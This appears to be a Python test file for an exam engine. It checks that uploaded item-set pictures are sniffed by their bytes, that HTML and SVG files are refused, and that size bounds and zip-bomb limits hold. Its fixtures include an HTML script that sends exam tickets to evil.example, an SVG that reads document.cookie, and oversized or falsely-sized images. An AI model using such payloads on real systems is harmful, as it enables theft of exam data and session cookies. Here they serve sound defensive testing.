"""Pictures that are pictures (issue 18): an item set's pictures are PNG, JPEG, GIF or WebP by
their bytes, whatever type they declare; HTML and SVG are refused at import, naming the file and
the item; pictures stored earlier are served as what their bytes are and found by
``examengine items check-images``."""

from __future__ import annotations

import base64
import io
import json
import zipfile

import pytest
from PIL import Image
from sqlalchemy import func, select
from typer.testing import CliRunner

from examengine.cli import app as cli_app
from examengine.db.models import AuditEvent, Item, ItemImage, ItemVersion
from examengine.itemfiles import pictures

CODE = "530046-L1-1.1.1"
HTML = b"<!doctype html><html><body><script>fetch('/api/v1/exams/1/tickets').then(r=>r.text())" \
       b".then(t=>fetch('//evil.example/?'+t))</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"


def picture(fmt: str = "PNG", size: tuple[int, int] = (40, 20), mode: str = "RGB") -> bytes:
    buf = io.BytesIO()
    Image.new(mode, size, "white" if mode == "RGB" else 1).save(buf, format=fmt)
    return buf.getvalue()


def item(ident: str, images: list[tuple[str, str, bytes]]) -> dict:
    refs = "".join(f"[图片:{name}]" for name, _, _ in images)
    return {"id": ident, "type": "判断", "stem": f"如图所示：{refs}", "key": "正确", "requirements": [CODE],
            "images": [{"name": n, "media_type": t, "data_base64": base64.b64encode(d).decode()} for n, t, d in images]}


def item_set(*items: dict) -> bytes:
    return json.dumps({"format": "examengine.itemset/1", "items": list(items)}, ensure_ascii=False).encode()


def upload(client, filename: str, data: bytes):
    return client.post("/api/v1/item-sets", files={"file": (filename, data)})


def where(response) -> set[tuple[str, str, str]]:
    return {(p["file"], p["location"], p["field"]) for p in response.json()["problems"]}


def test_an_html_picture_and_an_svg_with_a_script_are_refused_naming_the_file_and_item(client, db):
    data = item_set(item("evil-1", [("chart.png", "text/html", HTML)]),
                    item("evil-2", [("logo.svg", "image/svg+xml", SVG)]),
                    item("good-1", [("ok.png", "image/png", picture())]))
    r = upload(client, "恶意图片.json", data)

    assert r.status_code == 422
    assert {("恶意图片.json", "第 1 题（evil-1）", "图片 chart.png"),
            ("恶意图片.json", "第 2 题（evil-2）", "图片 logo.svg")} <= where(r)
    messages = " ".join(p["message"] for p in r.json()["problems"])
    assert "HTML" in messages and "SVG" in messages and "text/html" in messages
    assert db.scalar(select(func.count()).select_from(ItemImage)) == 0
    assert db.scalar(select(func.count()).select_from(Item)) == 0


def test_a_qti_picture_declared_text_html_is_refused(client, db):
    body = ('<p>看图：<img src="images/chart.png"/></p><choiceInteraction responseIdentifier="RESPONSE" '
            'maxChoices="1"><simpleChoice identifier="A">甲</simpleChoice><simpleChoice identifier="B">乙'
            '</simpleChoice><simpleChoice identifier="C">丙</simpleChoice><simpleChoice identifier="D">丁'
            '</simpleChoice></choiceInteraction>')
    item_xml = ('<?xml version="1.0" encoding="UTF-8"?><assessmentItem xmlns="http://www.imsglobal.org/xsd/'
                'imsqti_v2p1" identifier="q1" title="t" adaptive="false" timeDependent="false">'
                '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">'
                f'<correctResponse><value>B</value></correctResponse></responseDeclaration><itemBody>{body}'
                '</itemBody></assessmentItem>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" '
                'identifier="M"><organizations/><resources><resource identifier="R0" type="imsqti_item_xmlv2p1" '
                'href="items/q1.xml"><file href="items/q1.xml"/><file href="items/images/chart.png"/></resource>'
                '</resources></manifest>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("imsmanifest.xml", manifest)
        zf.writestr("items/q1.xml", item_xml)
        zf.writestr("items/images/chart.png", HTML)
    r = client.post("/api/v1/item-sets", files={"file": ("包.zip", buf.getvalue())}, data={"requirement": CODE})

    assert r.status_code == 422
    assert ("包.zip", "q1", "图片 chart.png") in where(r)
    assert db.scalar(select(func.count()).select_from(ItemImage)) == 0


@pytest.mark.parametrize("fmt, media", [("PNG", "image/png"), ("JPEG", "image/jpeg"), ("GIF", "image/gif"),
                                        ("WEBP", "image/webp")])
def test_a_real_picture_is_stored_with_its_sniffed_type_whatever_it_declares(client, db, fmt, media):
    data = picture(fmt)
    r = upload(client, "a.json", item_set(item("ok-1", [("x.bin", "text/html", data)])))

    assert r.status_code == 200, r.text
    assert db.execute(select(ItemImage.media_type, ItemImage.data)).one() == (media, data)


def test_a_picture_claiming_to_be_png_that_is_not_whole_is_refused(client):
    r = upload(client, "a.json", item_set(item("bad-1", [("x.png", "image/png", picture()[:40])])))
    assert r.status_code == 422 and ("a.json", "第 1 题（bad-1）", "图片 x.png") in where(r)


def test_pictures_over_the_size_and_pixel_bounds_are_refused(client, monkeypatch):
    monkeypatch.setattr(pictures, "MAX_PICTURE_BYTES", 20_000)
    big = picture("PNG", (40, 20))
    big = big[:-12] + b"\0" * 30_000 + big[-12:]  # padded past the bound
    bomb = picture("PNG", (5000, 4000), "1")  # 20 million pixels in a few kilobytes
    assert len(bomb) < 20_000
    r = upload(client, "a.json", item_set(item("big-1", [("big.png", "image/png", big)]),
                                          item("bomb-1", [("bomb.png", "image/png", bomb)])))

    assert r.status_code == 422
    assert {("a.json", "第 1 题（big-1）", "图片 big.png"), ("a.json", "第 2 题（bomb-1）", "图片 bomb.png")} <= where(r)
    text = r.text
    assert "MB" in text and "像素" in text


def test_the_pictures_of_one_upload_together_have_a_bound(client, monkeypatch):
    monkeypatch.setattr(pictures, "MAX_UPLOAD_PICTURE_BYTES", 1000)
    each = picture("PNG", (40, 20))
    items = [item(f"ok-{n}", [(f"p{n}.png", "image/png", each)]) for n in range(1000 // len(each) + 1)]
    r = upload(client, "a.json", item_set(*items))

    assert r.status_code == 422 and ("a.json", "", "图片") in where(r)


# -- pictures stored before the check


def stored_html_picture(client, db) -> tuple[str, str]:
    """An item imported clean, then given an HTML "picture" straight in the database (as a bank
    imported before this check holds it)."""
    assert upload(client, "a.json", item_set(item("old-1", [("ok.png", "image/png", picture())]))).status_code == 200
    version = db.scalars(select(ItemVersion)).one()
    db.add(ItemImage(version_id=version.id, name="evil.html", media_type="text/html", data=HTML))
    db.add(ItemImage(version_id=version.id, name="typo.png", media_type="text/html", data=picture()))
    db.commit()
    return "old-1", "evil.html"


def test_a_stored_html_picture_is_served_as_no_page(client, db):
    external_id, name = stored_html_picture(client, db)
    r = client.get(f"/api/v1/items/{external_id}/versions/1/images/{name}")

    assert r.status_code == 200 and r.content == HTML
    assert r.headers["content-type"] == "application/octet-stream"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert r.headers["content-disposition"].startswith('attachment; filename="evil.html"')

    good = client.get(f"/api/v1/items/{external_id}/versions/1/images/typo.png")
    assert good.headers["content-type"] == "image/png"  # its bytes, not the stored text/html
    assert good.headers["content-disposition"].startswith('inline; filename="typo.png"')
    assert good.headers["content-security-policy"] == "default-src 'none'; sandbox"


def test_check_images_finds_a_stored_html_picture_and_purge_removes_it_with_an_audit_entry(client, db, cli_env):
    stored_html_picture(client, db)
    runner = CliRunner()

    found = runner.invoke(cli_app, ["items", "check-images", "--format", "json"])
    assert found.exit_code == 1
    rows = {(f["name"], f["stored_type"], f["sniffed_type"], bool(f["problem"]), f["action"])
            for f in json.loads(found.stdout)}
    assert rows == {("evil.html", "text/html", "application/octet-stream", True, ""),
                    ("typo.png", "text/html", "image/png", False, "")}
    assert db.scalar(select(func.count()).select_from(ItemImage)) == 3  # reporting changes nothing

    purged = runner.invoke(cli_app, ["items", "check-images", "--purge", "--as", "admin"])
    assert purged.exit_code == 0, purged.output
    db.expire_all()
    assert dict(db.execute(select(ItemImage.name, ItemImage.media_type)).all()) == {
        "ok.png": "image/png", "typo.png": "image/png"}
    audit = db.execute(select(AuditEvent.actor, AuditEvent.action, AuditEvent.target)
                       .where(AuditEvent.action.like("item.image.%"))).all()
    assert sorted(audit) == [("admin", "item.image.remove", "item old-1 v1 image evil.html"),
                             ("admin", "item.image.retype", "item old-1 v1 image typo.png")]

    again = runner.invoke(cli_app, ["items", "check-images"])
    assert again.exit_code == 0 and "全部合格" in again.stdout


def test_a_huge_qti_picture_is_refused_before_it_is_read():
    """195 MB QTI pictures were read whole before the 2 MB check (3 dry runs: RSS 169 -> 904 MB): a
    member declared larger than the cap is refused unread, and one that lies about its size is read
    no further than the cap."""
    import tracemalloc

    from examengine.itemfiles.reader import parse_upload

    def package(picture_bytes: bytes, lie: bool = False) -> bytes:
        item_xml = ('<?xml version="1.0" encoding="UTF-8"?><assessmentItem xmlns="http://www.imsglobal.org/xsd/'
                    'imsqti_v2p1" identifier="q1" title="t" adaptive="false" timeDependent="false">'
                    '<responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">'
                    '<correctResponse><value>A</value></correctResponse></responseDeclaration><itemBody>'
                    '<p><img src="images/big.png"/></p><choiceInteraction responseIdentifier="RESPONSE" maxChoices="1">'
                    '<simpleChoice identifier="A">甲</simpleChoice><simpleChoice identifier="B">乙</simpleChoice>'
                    '</choiceInteraction></itemBody></assessmentItem>')
        manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" '
                    'identifier="M"><organizations/><resources><resource identifier="R0" type="imsqti_item_xmlv2p1" '
                    'href="items/q1.xml"><file href="items/q1.xml"/><file href="items/images/big.png"/></resource>'
                    '</resources></manifest>')
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("imsmanifest.xml", manifest)
            zf.writestr("items/q1.xml", item_xml)
            zf.writestr("items/images/big.png", picture_bytes)
        data = buf.getvalue()
        if lie:  # the directory says 1 KB; the stream holds far more
            zf2 = zipfile.ZipFile(io.BytesIO(data))
            info = zf2.getinfo("items/images/big.png")
            size = info.file_size.to_bytes(4, "little")
            data = data.replace(size, (1024).to_bytes(4, "little"))
        return data

    big = picture()[:-12] + b"\0" * (60 * 1024 * 1024) + picture()[-12:]  # 60 MB, compresses to ~60 KB
    for lie in (False, True):
        data = package(big, lie)
        tracemalloc.start()
        parsed = parse_upload("包.zip", data, default_requirements=(CODE,))
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert peak < 12 * 1024 * 1024, peak  # never the 60 MB
        messages = " ".join(p.message for p in parsed.problems)
        # refused: over the cap, or (a lying size) cut off at the declared size and failing its CRC
        assert ("上限" in messages) if not lie else ("上限" in messages or "无法读取" in messages), messages
        assert not any(i.images and len(i.images[0].data) > pictures.MAX_PICTURE_BYTES for i in parsed.items)
